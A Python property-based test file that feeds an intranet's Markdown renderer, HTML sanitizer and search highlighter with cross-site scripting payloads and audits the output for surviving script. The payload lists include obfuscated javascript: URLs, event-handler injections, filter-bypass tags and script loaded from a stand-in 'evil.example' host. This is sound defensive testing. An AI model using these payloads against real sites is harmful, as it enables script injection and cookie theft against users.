"""Whatever anyone writes, the HTML the site stores and shows runs no script.

Property tests: hypothesis mixes known attack fragments (raw tags, event handlers, and
javascript:, vbscript: and data: URLs with their case, entities, whitespace and control
characters scrambled, in Markdown links, images, autolinks, reference definitions and HTML
attributes) with random text, and an HTML parser audits the output as a browser would read it.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from intranet.lib.markdown import render_markdown, sanitize_html
from search.highlight import mark, snippet

EXAMPLES = settings(
    max_examples=300,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow],
)
FORBIDDEN_TAGS = {
    "script", "iframe", "object", "embed", "frame", "frameset", "applet", "base", "meta",
    "link", "style", "form", "svg", "math", "template",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcset"}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")
# What the URL standard ignores before reading a scheme: control characters and spaces at
# either end, tabs and newlines anywhere ("java\tscript:" is javascript:, "da ta:" is not a
# scheme but a relative path).
C0_OR_SPACE = "".join(chr(c) for c in range(0x21))
TAB_OR_NEWLINE = re.compile(r"[\t\n\r]")


def dangerous_url(value: str) -> bool:
    """Would a browser run this attribute value as script? The parser has already undone
    the HTML entities once, as a browser does."""
    url = TAB_OR_NEWLINE.sub("", value.strip(C0_OR_SPACE))
    return url.lower().startswith(BAD_SCHEMES)


class Audit(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}>")
            if name in URL_ATTRIBUTES and dangerous_url(value):
                self.problems.append(f"<{tag} {name}={value!r}>")
            if name == "style" and re.search(r"expression|url\s*\(|javascript", value, re.I):
                self.problems.append(f"<{tag} style={value!r}>")

    handle_startendtag = handle_starttag


def audit(output: str) -> list[str]:
    parser = Audit()
    parser.feed(output)
    parser.close()
    return parser.problems


# --- Strategies -----------------------------------------------------------------------


SPLITTERS = ["\t", "\n", "&#9;", "&#10;", "&Tab;", "&NewLine;", "\x00", " "]


@st.composite
def scrambled_scheme(draw: st.DrawFn) -> str:
    """javascript: (or vbscript:, data:) with random case, entities, whitespace and controls."""
    word = draw(st.sampled_from(["javascript", "vbscript", "data"]))
    out = []
    for char in word:
        char = draw(st.sampled_from([char.lower(), char.upper()]))
        style = draw(st.integers(0, 9))
        if style == 0:
            char = f"&#{ord(char)};"
        elif style == 1:
            char = f"&#x{ord(char):x};"
        elif style == 2:
            char = f"&#{ord(char):07d}"  # zero-padded, no semicolon
        out.append(char)
        if draw(st.integers(0, 7)) == 0:
            out.append(draw(st.sampled_from(SPLITTERS)))
    colon = draw(st.sampled_from([":", ":", "&colon;", "&#58;", "&#x3a;", "%3A"]))
    lead = draw(st.sampled_from(["", "", " ", "  ", "\t", "&#32;", "\x01", "%20"]))
    return lead + "".join(out) + colon


PAYLOADS = ["alert(1)", "alert(document.cookie)//", "text/html;base64,PHNjcmlwdD4=", "msgbox(1)"]


@st.composite
def dangerous_link(draw: st.DrawFn) -> str:
    url = draw(scrambled_scheme()) + draw(st.sampled_from(PAYLOADS))
    template = draw(
        st.sampled_from(
            [
                "[click]({u})",
                "[click](<{u}>)",
                '[click]({u} "title")',
                "![pic]({u})",
                "<{u}>",
                "{u}",
                "[click][ref]\n\n[ref]: {u}\n",
                "![pic][ref]\n\n[ref]: <{u}>\n",
                '<a href="{u}">click</a>',
                "<a href='{u}'>click</a>",
                "<a href={u}>click</a>",
                '<img src="{u}">',
                '<iframe src="{u}"></iframe>',
                '<form action="{u}"><button formaction="{u}">go</button></form>',
                '<object data="{u}"></object>',
                '<embed src="{u}">',
                '<svg><a xlink:href="{u}">x</a></svg>',
                '<math><a href="{u}">x</a></math>',
                '<td style="background:url({u})">x</td>',
            ]
        )
    )
    return template.replace("{u}", url)


RAW_FRAGMENTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1)//",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<div onmouseover='alert(1)' style='width:100%'>hover</div>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="width: expression(alert(1))">x</p>',
    "<base href='javascript:alert(1)//'>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "javascript:alert(1)",
    "www.example.com",
    "https://example.com/?q=<script>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "```python\nx = '<script>alert(1)</script>'\n```",
    "```js\ndocument.write('<img src=x onerror=alert(1)>')\n```",
    '```nosuchlanguage"><script>alert(1)</script>\n<svg onload=alert(1)>\n```',
    '<pre class="highlight"><span class="k" onclick="alert(1)">x</span></pre>',
    "| a | b |\n|:-:|--:|\n| <script> | [x](javascript:alert(1)) |",
    "@olga",
    "**bold** _em_ ~~del~~",
    "> quote\n\n- item\n1. one",
]
# Any character, lone surrogates included (the sanitizer replaces them).
noise = st.text(
    alphabet=st.sampled_from(list("ab <>/=\"'`&#;:()[]!*_|-\n\t@\\")) | st.characters(),
    max_size=12,
)
separator = st.sampled_from(["", " ", "\n", "\n\n", "\t"])
fragment = st.one_of(st.sampled_from(RAW_FRAGMENTS), dangerous_link(), noise)
documents = st.lists(st.tuples(fragment, separator), min_size=1, max_size=8).map(
    lambda parts: "".join(text + sep for text, sep in parts)
)


# --- Properties -----------------------------------------------------------------------


def test_the_audit_catches_what_it_must() -> None:
    """Control: the audit flags each kind of escape it exists to catch."""
    assert audit('<a href="jav&#x09;ascript:alert(1)">x</a>') != []
    assert audit('<a href=" &#0000106avaScript&colon;alert(1)">x</a>') != []
    assert audit('<img src="data:image/svg+xml,x">') != []
    assert audit("<p onclick=alert(1)>x</p>") != []
    assert audit("<script></script>") != []
    assert audit('<a href="\x01 javascript:alert(1)">x</a>') != []
    assert audit('<a href="https://example.com/javascript:x">ok</a>') == []
    assert audit('<a href="da ta:alert(1)">a relative path</a>') == []


@EXAMPLES
@given(documents)
def test_markdown_never_renders_script(text: str) -> None:
    output = render_markdown(text, mention_urls={"olga": "/people/olga/"})
    assert audit(output) == [], (text, output)


@EXAMPLES
@given(documents)
def test_the_sanitizer_alone_removes_script_from_raw_html(text: str) -> None:
    """Markdown is rendered without raw HTML; the sanitizer is the second wall, and must hold
    on its own."""
    output = sanitize_html(text)
    assert audit(output) == [], (text, output)


@settings(max_examples=100, deadline=None, database=None)
@given(documents, st.lists(st.text(min_size=1, max_size=8), max_size=3))
def test_search_snippets_mark_words_and_nothing_else(text: str, words: list[str]) -> None:
    for output in (mark(text, words), snippet(text, words)):
        tags = re.findall(r"</?([a-zA-Z][^\s>/]*)", str(output))
        assert set(tags) <= {"mark"}, (text, words, output)
        assert audit(str(output)) == [], (text, words, output)
